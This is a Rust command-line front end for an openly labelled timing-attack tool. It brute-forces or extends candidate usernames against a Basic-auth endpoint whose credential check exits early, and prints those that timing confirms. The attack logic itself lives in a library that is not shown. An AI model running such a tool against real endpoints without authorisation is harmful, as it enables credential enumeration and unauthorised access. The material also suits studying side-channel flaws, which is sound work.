//! Timing attack against a Basic-auth endpoint that compares credentials
//! with an early exit.

use timing_attack::{Attack, AttackConfig, CandidateSource, RequestErrorPolicy, Transport};

use clap::{Parser, ValueEnum};
use tracing::info;

use std::path::PathBuf;

#[derive(Parser)]
#[command(name = "timing-attack")]
#[command(author, version, about, long_about = None)]
struct Cli {
    /// Enable debug output
    #[arg(short, long)]
    verbose: bool,

    /// TOML configuration file, overridden by any flag below
    #[arg(short, long)]
    config: Option<PathBuf>,

    /// Endpoint to attack
    #[arg(long)]
    url: Option<String>,

    /// Password sent with every candidate username
    #[arg(long)]
    password: Option<String>,

    /// Talk HTTP over this Unix domain socket instead of TCP
    #[arg(long)]
    unix_socket: Option<PathBuf>,

    /// Give up on a request after this many milliseconds
    #[arg(long)]
    timeout_ms: Option<u64>,

    /// Read candidates from a file, one per line
    #[arg(long, conflicts_with_all = ["extend", "min_len", "max_len"])]
    wordlist: Option<PathBuf>,

    /// Try every one-character extension of a known prefix
    #[arg(long, conflicts_with_all = ["min_len", "max_len"])]
    extend: Option<String>,

    /// Characters candidates are built from
    #[arg(long)]
    alphabet: Option<String>,

    /// Shortest exhaustive candidate
    #[arg(long)]
    min_len: Option<usize>,

    /// Longest exhaustive candidate
    #[arg(long)]
    max_len: Option<usize>,

    /// Candidates dispatched together
    #[arg(long)]
    batch_size: Option<usize>,

    /// Concurrent workers, each with its own connection
    #[arg(long)]
    workers: Option<usize>,

    /// Threshold is baseline * (1 + multiplier)
    #[arg(long)]
    multiplier: Option<f64>,

    /// Re-samples a candidate must all exceed the threshold on
    #[arg(long)]
    confirmations: Option<usize>,

    /// What to do when a request errors
    #[arg(long, value_enum)]
    on_error: Option<OnError>,
}

#[derive(Clone, Copy, ValueEnum)]
enum OnError {
    Abort,
    Miss,
}

impl Cli {
    fn into_config(self) -> anyhow::Result<AttackConfig> {
        let mut config = match &self.config {
            Some(path) => AttackConfig::load(path)?,
            None => AttackConfig::default(),
        };

        if let Some(url) = self.url {
            config.target.url = url;
        }
        if let Some(password) = self.password {
            config.target.password = password;
        }
        if let Some(socket_path) = self.unix_socket {
            config.target.transport = Transport::Unix { socket_path };
        }
        if self.timeout_ms.is_some() {
            config.target.request_timeout_ms = self.timeout_ms;
        }

        config.candidates = match (self.wordlist, self.extend) {
            (Some(path), _) => CandidateSource::Wordlist { path },
            (None, Some(prefix)) => CandidateSource::Extend {
                prefix,
                alphabet: self
                    .alphabet
                    .unwrap_or_else(|| timing_attack::DEFAULT_ALPHABET.to_string()),
            },
            (None, None) => match config.candidates {
                CandidateSource::Exhaustive {
                    alphabet,
                    min_len,
                    max_len,
                } => CandidateSource::Exhaustive {
                    alphabet: self.alphabet.unwrap_or(alphabet),
                    min_len: self.min_len.unwrap_or(min_len),
                    max_len: self.max_len.unwrap_or(max_len),
                },
                other => other,
            },
        };

        if let Some(batch_size) = self.batch_size {
            config.dispatch.batch_size = batch_size;
        }
        if let Some(workers) = self.workers {
            config.dispatch.workers = workers;
        }
        if let Some(multiplier) = self.multiplier {
            config.decision.multiplier = multiplier;
        }
        if let Some(confirmations) = self.confirmations {
            config.decision.confirmation_samples = confirmations;
        }
        if let Some(on_error) = self.on_error {
            config.decision.on_request_error = match on_error {
                OnError::Abort => RequestErrorPolicy::Abort,
                OnError::Miss => RequestErrorPolicy::Miss,
            };
        }
        Ok(config)
    }
}

fn main() -> anyhow::Result<()> {
    let cli = Cli::parse();

    tracing_subscriber::fmt()
        .with_env_filter(if cli.verbose { "debug" } else { "info" })
        .init();

    let attack = Attack::new(cli.into_config()?)?;

    // One runtime thread per worker. With fewer, requests queue behind each
    // other and the queueing time ends up in the measurements.
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(attack.config().dispatch.workers)
        .enable_all()
        .build()?;
    let report = runtime.block_on(attack.run())?;

    info!(
        baseline = ?report.threshold.baseline(),
        cutoff = ?report.threshold.cutoff(),
        tried = report.tried,
        screened = report.screened,
        failed = report.failed,
        "done"
    );
    for candidate in &report.confirmed {
        println!("{candidate}");
    }
    Ok(())
}
